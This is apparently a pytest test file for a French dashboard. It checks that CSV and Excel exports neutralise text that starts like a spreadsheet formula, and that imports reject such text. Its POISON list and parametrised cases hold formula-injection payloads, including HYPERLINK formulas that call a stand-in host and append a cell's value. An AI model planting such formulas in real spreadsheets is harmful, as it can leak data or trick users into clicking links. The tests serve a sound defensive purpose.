"""Every CSV and Excel file the product writes (issue 10, point 9): a data text that a spreadsheet would run as a
formula (=, +, -, @, tab, CR first) is written with a leading apostrophe, never as a formula; numbers stay numbers;
the import refuses the formula forms and reads our own apostrophe back off."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from helpers import READING_PAGES, app_test, download_bytes, edited_in_place, open_page, show_chart_data

from dashboard import registry
from dashboard.ui import widgets
from qmi_metrics.admin import auth, cells, importing, readers, templates
from qmi_metrics.metrics.filters import Filters
from qmi_metrics.outputs.spreadsheet import neutralise, safe_frame, unneutralise
from qmi_metrics.reads import queries
from qmi_metrics.store import db, rollups

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
POISON = ('=HYPERLINK("http://x";"a")', '+(HYPERLINK("http://x"&B2;"Cliquez ici"))', "-(1+1)", "@SUM(1)", "\tx",
          "\rx")
PASSWORD = "un mot de passe assez long"
# Data text the pages show in tables: each gets a formula in front of what it said.
POISONED = {
    "projects": ("name", "operator", "subtype_fr", "description_fr", "lessons_fr"),
    "sites": ("name", "note"),
    "sources": ("title", "publisher", "note"),
    "project_events": ("source_quote",),
    "candidatures": ("applicant",),
    "published_figures": ("label_fr", "label_en", "quote", "section"),
}


def test_neutralise_rule():
    for text in POISON:
        assert neutralise(text) == "'" + text and unneutralise(neutralise(text)) == text
    for text in ("- item", "-x", "@home", "+ plus"):
        assert neutralise(text) == "'" + text
    # Not a text, or a text that can carry no formula: as it is.
    for value in (-12, -1.5, 3, None, True, pd.Timestamp("2024-01-01"), "Meudon", "'t Hooft", "-12,5", "+33 1 23 45 67 89",
                  "-35 %", ""):
        assert neutralise(value) is value or neutralise(value) == value
    assert unneutralise("'t Hooft") == "'t Hooft" and unneutralise("'") == "'"
    assert neutralise("bip\x07 fin\x1f") == "bip  fin " and neutralise("a\tb\nc") == "a\tb\nc"
    frame = safe_frame(pd.DataFrame({"n": [-1, 2], "x": [-1.5, 2.0], "t": ["=1+1", "ok"], "=col": ["a", -3]}))
    assert frame["n"].tolist() == [-1, 2] and frame["x"].tolist() == [-1.5, 2.0]
    assert frame["t"].tolist() == ["'=1+1", "ok"] and list(frame.columns)[3] == "'=col" and frame.iloc[1, 3] == -3


@pytest.mark.parametrize("text", ['+(HYPERLINK("http://x"&B2;"Cliquez ici"))', "-(1+1)", "@(1+1)", "+ (1)", "=1",
                                  "@SUM(1)", "-A1", '=HYPERLINK("http://x";"a")'])
def test_the_import_refuses_formula_forms(text):
    with pytest.raises(cells.CellError):
        cells.reject_formula_text(text)
    with pytest.raises(cells.CellError):  # our apostrophe comes off first: still a formula
        cells.reject_formula_text(unneutralise("'" + text))


@pytest.mark.parametrize("text", ["-12,5", "+33 1 23 45 67 89", "- item", "-x", "@home", "(voir note)", "1-2"])
def test_the_import_accepts_text_that_is_no_formula(text):
    cells.reject_formula_text(text)


# --- a database whose texts start like formulas -----------------------------------------------------------------


@pytest.fixture(scope="module")
def poisoned_db(reference_db_path, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("poisoned") / "qmi.duckdb"
    shutil.copy(reference_db_path, path)
    con = db.connect(path, read_only=False)
    for table, columns in POISONED.items():
        for i, column in enumerate(columns):
            cases = " ".join(f"WHEN {k} THEN ?" for k in range(len(POISON)))
            con.execute(f"UPDATE {table} SET {column} = (CASE (hash(rowid) + {i}) % {len(POISON)} {cases} END)"
                        f" || coalesce({column}, '') WHERE {column} IS NOT NULL OR {i} = 0", list(POISON))
    edited_in_place(con, "poisoned")
    rollups.refresh(con)  # the KPI labels and cached values follow the texts
    con.close()
    return path


def text_cells(name: str, data: bytes) -> tuple[list, list]:
    """(text values, formula cells) of a CSV or xlsx file."""
    if name.endswith(".csv"):
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        return [v for row in rows for v in row], []
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    return [c.value for c in cells if c.data_type == "s"], [c.coordinate for c in cells if c.data_type == "f"]


def assert_inert(name: str, data: bytes) -> list:
    texts, formulas = text_cells(name, data)
    assert not formulas, (name, formulas)
    live = [t for t in texts if isinstance(t, str) and t.startswith(DANGEROUS) and t != neutralise(t)]
    assert not live, (name, live[:5])
    return texts




def produced(seen: dict) -> dict[str, bytes]:
    files = {}
    for name, data in seen.items():
        if name.endswith((".csv", ".xlsx")):
            files[name] = download_bytes(data)
    return files


def test_every_download_of_every_page_is_inert(monkeypatch, poisoned_db, downloads):
    at = app_test(monkeypatch, poisoned_db, timeout=120).run()
    assert not at.exception, at.exception
    files: dict[str, bytes] = {}
    for page in READING_PAGES:
        at.switch_page(registry.page(page).file)
        for edition in ("all", 1):
            at.session_state["f_edition"] = edition
            at.run()
            if any(widgets.is_data_key(key) for key in at.session_state.keys()):
                show_chart_data(at)  # a chart's table and its downloads are drawn once « Données » is open
            assert not at.exception, (page, at.exception)
            files.update(produced(downloads))
            downloads.clear()
    at = open_page(monkeypatch, poisoned_db, "projets", timeout=120, projet="purple")
    assert not at.exception, at.exception
    files.update(produced(downloads))
    assert len(files) > 40 and any("modele_import" in n for n in files), sorted(files)
    poisoned_seen = 0
    for name, data in files.items():
        texts = assert_inert(name, data)
        poisoned_seen += sum(1 for t in texts if isinstance(t, str) and t.startswith("'") and unneutralise(t) != t)
    assert poisoned_seen > 100  # the formulas did reach the files, neutralised
    # Numbers stay numbers: the projects export of the Projets page keeps its delays as numbers.
    book = openpyxl.load_workbook(io.BytesIO(next(d for n, d in files.items() if n.endswith(".xlsx") and "projets" in n)))
    assert any(c.data_type == "n" and isinstance(c.value, (int, float)) for row in book.active.iter_rows(min_row=2)
               for c in row)
    # Each line says its basis in the file too: « inféré » for those resting on a row their source does not state.
    header = [c.value for c in next(book.active.iter_rows(max_row=1))]
    bases = {row[header.index("base")] for row in book.active.iter_rows(min_row=2, values_only=True)}
    assert bases == {"énoncé", "inféré"}


def test_administration_downloads_are_inert(monkeypatch, poisoned_db, tmp_path, downloads):
    live = tmp_path / "qmi.duckdb"
    shutil.copy(poisoned_db, live)
    at = open_page(monkeypatch, live, "administration", timeout=120,
                   secrets={"admin": {"password_hash": auth.hash_password(PASSWORD)}})
    at.text_input[0].input(PASSWORD)
    at.button[0].click().run()
    assert not at.exception, at.exception
    at.selectbox(key="template_table").set_value("project_events").run()
    at.selectbox(key="import_table").set_value("project_events").run()
    bad = io.StringIO()
    writer = csv.writer(bad, delimiter=";")
    writer.writerow(["project_id", "kind", "date_start"])
    writer.writerows(["purple", "deployed", text] for text in (*POISON[:4], "@(1+1)"))
    at.file_uploader(key="import_file").set_value(("saisie.csv", bad.getvalue().encode("utf-8"), "text/csv")).run()
    assert not at.exception, at.exception
    files = produced(downloads)
    assert {"qmi_import_problemes.csv", "qmi_import_problemes.xlsx", "modele_project_events.xlsx"} <= set(files)
    for name, data in files.items():
        assert_inert(name, data)
    problems = pd.read_excel(io.BytesIO(files["qmi_import_problemes.xlsx"]))
    assert "'=HYPERLINK(\"http://x\";\"a\")" in set(problems["valeur"])
    assert {"'-(1+1)", "'@(1+1)"} <= set(problems["valeur"])  # refused by the import, and inert in the report
    references = openpyxl.load_workbook(io.BytesIO(files["modele_project_events.xlsx"]))[templates.REFERENCES_SHEET]
    assert any(isinstance(c.value, str) and c.value.startswith("'") for row in references.iter_rows() for c in row)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_cli_templates_are_inert(poisoned_db, tmp_path, suffix):
    with db.connect(poisoned_db) as con:
        written = templates.write_template("project_events", tmp_path / f"modele{suffix}", con)
    for path in written:
        assert_inert(path.name, path.read_bytes())


def test_the_importable_export_comes_back_as_it_was(reference_db_path, tmp_path):
    """Texts that start like a formula but are none (« - item ») go out with an apostrophe and come back without."""
    from dashboard.ui import widgets

    live = tmp_path / "qmi.duckdb"
    shutil.copy(reference_db_path, live)
    with db.connect(live, read_only=False) as con:
        con.execute("UPDATE projects SET operator = '- item' WHERE project_id = 'purple'")
        con.execute("UPDATE projects SET subtype_fr = '@home' WHERE project_id = 'pelican'")
        rows = queries.importable_rows(con, "projects", Filters(edition=1))
        assert set(rows["basis"]) == {"stated", "inferred"} and rows["basis_rule"].notna().sum() == 4  # the défis
        exported = widgets.to_excel(rows, "projects")
        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
        assert "'- item" in [c.value for row in sheet.iter_rows() for c in row]
        prepared = importing.prepare(con, readers.read_file(exported, "export.xlsx", "projects"), "projects",
                                     "upsert")
        assert prepared.ok, [p.message_fr for p in prepared.problems]
        assert prepared.counts["projects"].as_dict() == {"added": 0, "updated": 0, "unchanged": len(rows),
                                                          "removed": 0}
        csv_back = readers.read_file(widgets.to_csv(rows), "export.csv", "projects")
        assert importing.prepare(con, csv_back, "projects", "upsert").counts["projects"].as_dict()["unchanged"] == len(rows)


def test_a_control_character_in_the_data_does_not_lose_the_excel_export():
    import io

    import openpyxl

    from dashboard.ui.widgets import to_excel

    book = openpyxl.load_workbook(io.BytesIO(to_excel(pd.DataFrame({"nom": ["bip\x07", "ok"], "n": [1, 2]}))))
    assert [c.value for c in book.active["A"]] == ["nom", "bip ", "ok"]
